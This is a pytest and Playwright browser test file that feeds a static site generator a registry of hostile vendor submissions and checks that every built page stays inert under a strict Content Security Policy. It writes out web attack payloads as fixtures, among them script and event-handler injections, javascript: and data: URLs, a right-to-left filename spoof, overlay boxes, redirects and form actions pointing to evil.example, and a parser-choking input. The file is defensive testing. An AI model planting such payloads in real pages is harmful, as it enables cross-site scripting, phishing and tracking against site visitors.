"""The site under attack: built by `certreg build` from a registry of hostile submissions, every
page opened in Chromium. No dialog opens, no request leaves the site's origin, nothing a vendor
wrote runs or covers the page, and every page carries a Content Security Policy that allows no
inline script and no other origin.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from playwright.sync_api import Browser, Page

from tests.adversarial.cases import HERE as ADVERSARIAL
from tests.adversarial.cases import place, plain_registry
from tests.browser.conftest import _serve, open_page, screenshot
from tests.conftest import ROOT
from tests.site.sample import HOSTILE_README

pytestmark = pytest.mark.browser

RLO = "\u202e"
DAY = "2026-01-10"
# Covering the page: a fixed, absolute or sticky box from vendor text, or one that reaches out of
# the README without being clipped by it.
COVERING = """() => {
  const found = [];
  const width = window.innerWidth, height = window.innerHeight;
  const clipped = (element, stop) => {
    for (let a = element.parentElement; a && a !== stop; a = a.parentElement) {
      const style = getComputedStyle(a);
      if (style.overflowX !== 'visible' || style.overflowY !== 'visible') return true;
    }
    return false;
  };
  for (const element of document.querySelectorAll('.readme *, h1, h1 *, td *, dd *')) {
    const style = getComputedStyle(element);
    const box = element.getBoundingClientRect();
    const what = element.tagName + ' ' + style.position + ' ' + box.width + 'x' + box.height;
    if (['fixed', 'absolute', 'sticky'].includes(style.position)) found.push(what);
    const readme = element.closest('.readme');
    if (readme === null) continue;
    const frame = readme.getBoundingClientRect();
    const escapes = box.left < frame.left - 1 || box.right > frame.right + 1
      || box.top < frame.top - 1 || box.bottom > frame.bottom + 1;
    if (escapes && !clipped(element, readme.parentElement)) found.push('outside: ' + what);
  }
  for (let x = 5; x < width; x += Math.floor(width / 6)) {
    for (let y = 5; y < height; y += Math.floor(height / 6)) {
      const top = document.elementFromPoint(x, y);
      if (top && top.closest('.readme') && !top.closest('main')) found.push('over ' + x + ',' + y);
    }
  }
  return found;
}"""


def _hostile_product() -> dict[str, str]:
    """Every field of PRODUCT.yaml hostile, but a valid mapping, so that the site shows it."""
    return {
        "vendor": 'Evil <script>alert("vendor")</script> Inc.',
        "name": f'Evil <img src=x onerror=alert("name")> {RLO}txt.exe',
        "version": "1.0<svg onload=alert(1)>",
        "type": "distribution",
        "description": '<div style="position:fixed;inset:0">covered</div><script>alert(1)</script>',
        "website_url": "javascript:alert('website')",
        "documentation_url": "data:text/html,<script>alert('docs')</script>",
        "contact_email_address": 'a@b.example"><script>alert(1)</script>',
        "repo_url": "vbscript:msgbox(1)",
        "product_logo_url": "https://tracker.example/logo.svg",
    }


def hostile_registry(root: Path) -> None:
    """The base registry, with three hostile products beside the acme one."""
    plain_registry(root)
    shutil.copytree(ROOT / "templates", root / "templates")
    place(root, "data/vendors/acme/acme-kube/v1.35")
    readmes = {
        "evil-dist": (ADVERSARIAL / "text-readme" / "README.md").read_text(encoding="utf-8"),
        "evil-cloud": HOSTILE_README
        + '\n<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject>'
        + '<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n'
        + "[click](<javascript:alert(1)>) [x](&#106;avascript:alert(2)) <vbscript:msgbox(1)>\n"
        + "[![logo](https://tracker.example/a.png)](https://evil.example/)\n"
        + '<form action="https://evil.example/"><input name="q"><button>Go</button></form>\n'
        + '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
        + '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">\n'
        + "<style>@import url(https://evil.example/x.css); body { display: none }</style>\n",
        "evil-heavy": "# Heavy\n\n" + "[" * 100_000 + "\n<script>alert('heavy')</script>\n",
    }
    for product, readme in readmes.items():
        folder = place(root, f"data/vendors/evil/{product}/v1.35")
        (folder / "README.md").write_text(readme, encoding="utf-8")
        fields = dict(_hostile_product(), name=f"{_hostile_product()['name']} {product}")
        (folder / "PRODUCT.yaml").write_text(yaml.safe_dump(fields), encoding="utf-8")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """The hostile registry built with the command line, served; and the pages it has."""
    base = tmp_path_factory.mktemp("attack")
    root = base / "registry"
    hostile_registry(root)
    out = base / "site"
    script = Path(sys.executable).with_name("certreg")
    command = [str(script)] if script.is_file() else [sys.executable, "-m", "generator"]
    done = subprocess.run(
        [*command, "build", "--out", str(out), "--as-of", DAY],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    pages = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.html"))
    for url in _serve(out):
        yield url, pages


def test_every_page_stays_inert(browser: Browser, attacked: tuple[str, list[str]]) -> None:
    url, pages = attacked
    assert any(p.startswith("products/evil/") for p in pages)
    page, watch = open_page(browser, url)
    for path in pages:
        page.goto(url + path.removesuffix("index.html"))
        page.wait_for_load_state("load")
        _assert_policy(page, path)
        covering = page.evaluate(COVERING)
        assert covering == [], f"{path}: {covering}"
        assert page.locator("script:not([src])").count() == 0, path
        active = "[style], iframe, object, embed, img[src^=http], .readme form, .readme input"
        assert page.locator(active).count() == 0, path
        for href in page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)"):
            assert href.startswith(("https://", "http://127.0.0.1", "mailto:")), (path, href)
    # Hover and click every link of a README: handlers would fire now, if any were left.
    page.goto(url + "products/evil/evil-cloud/")
    links = page.locator(".readme a")
    for index in range(links.count()):
        if links.nth(index).is_visible():
            links.nth(index).hover(timeout=5000)
    screenshot(page, "attack-product")
    watch.assert_clean()


def test_vendor_text_is_shown_as_text(browser: Browser, attacked: tuple[str, list[str]]) -> None:
    url, _pages = attacked
    page, watch = open_page(browser, url)
    page.goto(url + "products/evil/evil-dist/")
    heading = page.locator("h1").inner_text()
    assert "<img src=x onerror=" in heading  # the name is text, not an element
    assert RLO not in heading and "txt.exe" in heading  # and reads in its own order
    readme = page.locator(".readme").inner_text()
    assert "Certified!" in readme  # the covering box's text is kept, as text in the flow
    page.goto(url + "products/evil/evil-heavy/")
    assert page.locator(".readme pre").count() == 1  # too heavy for Markdown: plain text
    assert "<script>alert('heavy')</script>" in page.locator(".readme pre").inner_text()
    watch.assert_clean()


def _assert_policy(page: Page, path: str) -> None:
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert policy is not None, f"{path}: no Content-Security-Policy"
    rules = {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
    assert rules["default-src"] == ["'self'"], path
    script = rules.get("script-src", rules["default-src"])
    assert all(s == "'self'" or s.startswith("'sha256-") for s in script), (path, script)
    for directive, sources in rules.items():  # no other origin, nothing inline unless hashed
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} & set(
            sources
        ), (path, directive)
        assert all(s.startswith("'") for s in sources), (path, directive, sources)
    assert rules.get("object-src") == ["'none'"] and rules.get("base-uri") == ["'none'"], path
